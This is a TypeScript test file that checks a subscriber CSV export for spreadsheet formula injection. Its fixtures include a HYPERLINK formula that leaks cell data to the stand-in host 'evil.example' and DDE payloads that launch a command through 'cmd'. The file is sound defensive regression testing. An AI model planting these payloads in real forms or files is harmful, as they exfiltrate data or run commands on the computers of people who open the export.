import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { createHarness, type Harness } from '../support/harness.ts';
import { exportCsvRows, neutralizeFormula, parseImportCsv } from '../../src/subscribers/csv.ts';
import type { Subscriber } from '../../src/subscribers/model.ts';

/**
 * Formula injection through the subscriber export (issue 14, finding 7): a
 * public signup whose name or address a spreadsheet would run as a formula.
 * The export starts each such cell with `'`; the import takes it off again,
 * so an exported file re-imports to the same subscribers.
 */

const HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"Open invoice")';
const signups = [
  { email: 'ann@example.org', name: HYPERLINK },
  { email: 'plus@example.org', name: '+1+cmd|\' /C calc\'!A0' },
  { email: 'minus@example.org', name: '-2+3' },
  { email: 'at@example.org', name: '@SUM(1+1)*cmd|\' /C calc\'!A0' },
  { email: 'quoted@example.org', name: "'=already quoted by its owner" },
  { email: 'plain@example.org', name: 'Plain Name' },
  // The address is a cell too, and `=`, `+` and `-` are legal before the @.
  { email: '=1+2@example.org', name: 'Equals Address' },
  { email: '-dash@example.org', name: 'Dash Address' },
];
const FORMULA = /^[=+\-@\t\r]/;

let h: Harness;
let fresh: Harness;
beforeAll(async () => {
  h = await createHarness({ env: { SIGNUP_LIMIT_PER_IP: '1000' } });
  fresh = await createHarness();
});
afterAll(async () => {
  await fresh?.close();
  await h?.close();
});

const exportCsv = async (hh: Harness) => {
  const res = await hh.app.inject({ method: 'GET', url: '/api/subscribers.csv', headers: hh.auth });
  expect(res.statusCode).toBe(200);
  return res.body;
};

describe('the subscriber export', () => {
  it('starts every cell a spreadsheet would run as a formula with an apostrophe, and re-imports to the same subscribers', async () => {
    for (const s of signups) {
      const res = await h.app.inject({ method: 'POST', url: '/subscribe', payload: { ...s, topics: ['Ukraine'] } });
      expect([s.email, res.statusCode]).toEqual([s.email, 202]);
    }
    const csv = await exportCsv(h);
    const [header, ...rows] = parse(csv) as string[][];
    expect(header).toEqual(['email', 'name', 'topics', 'consent', 'status']);
    expect(rows).toHaveLength(signups.length);
    for (const cell of rows.flat()) expect(cell).not.toMatch(FORMULA);

    const byName = new Map(rows.map((r) => [r[0], r[1]]));
    expect(byName.get('ann@example.org')).toBe(`'${HYPERLINK}`);
    expect(byName.get('minus@example.org')).toBe("'-2+3");
    expect(byName.get('quoted@example.org')).toBe("''=already quoted by its owner");
    expect(byName.get('plain@example.org')).toBe('Plain Name');
    expect(byName.get("'=1+2@example.org")).toBe('Equals Address');
    expect(byName.get("'-dash@example.org")).toBe('Dash Address');

    // Exported, then imported into an empty list: the same addresses and names, nothing quoted twice.
    const imported = await fresh.app.inject({ method: 'POST', url: '/api/subscribers/import?status=active', headers: { ...fresh.auth, 'content-type': 'text/csv' }, payload: csv });
    expect(imported.json()).toMatchObject({ imported: signups.length, errors: [] });
    const list = await fresh.services.subscribers.list({ limit: 50 });
    expect(list.items.map((s) => [s.email, s.name]).sort()).toEqual(signups.map((s) => [s.email, s.name]).sort());
    // And the second export is the first one's twin.
    const again = parse(await exportCsv(fresh)) as string[][];
    expect(again.slice(1).map((r) => [r[0], r[1]]).sort()).toEqual(rows.map((r) => [r[0], r[1]]).sort());
  });

  it('neutralizes a leading tab or carriage return too, and leaves every other cell alone', () => {
    const sub = (name: string): Subscriber => ({ id: '1', email: 'x@example.org', name, status: 'active', topics: [], createdAt: '', updatedAt: '' });
    const cells = (name: string) => (parse(exportCsvRows([sub(name)], () => '')) as string[][])[0]!;
    expect(cells('\t=1+1')[1]).toBe("'\t=1+1");
    expect(cells('\r=1+1')[1]).toBe("'\r=1+1");
    for (const safe of ['Ann', ' =1 (leading space)', "O'Brien", "'not a formula", '1+1', '', 'a=b']) expect(neutralizeFormula(safe)).toBe(safe);
    // The import's inverse takes exactly one apostrophe, only in front of a formula start.
    const { rows } = parseImportCsv("email,name\nq@example.org,'''=x\nr@example.org,'plain\n", []);
    expect(rows.map((r) => r.name)).toEqual(["''=x", "'plain"]);
  });
});
